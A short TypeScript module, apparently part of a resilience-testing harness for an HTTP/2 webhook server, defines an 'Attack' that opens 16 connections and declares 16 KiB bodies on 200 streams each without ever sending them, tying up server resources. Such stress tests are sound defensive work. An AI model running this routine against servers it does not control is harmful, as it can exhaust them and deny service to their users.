import type { Attack } from "../attack.ts";
import { headersFrame, preface, webhookFields } from "../http2_frames.ts";

const STREAMS = 200;

export const http2StreamsWithoutBodiesKeepNobodyOut: Attack = {
  what:
    `declares bodies of 16 KiB in ${STREAMS} streams of each of 16 HTTP/2 connections and sends none`,
  caps: { connections: 5_000, bytes: 100e6 },
  run: (attacker) =>
    attacker.sideBySide(16, async (connection) => {
      if (!await connection.write(preface)) return;
      const fields = webhookFields(attacker.host, 16_384);
      for (let index = 0; index < STREAMS; index++) {
        const stream = 2 * index + 1;
        if (!await connection.write(headersFrame({ stream, fields }))) return;
      }
      await connection.readOn();
    }),
};
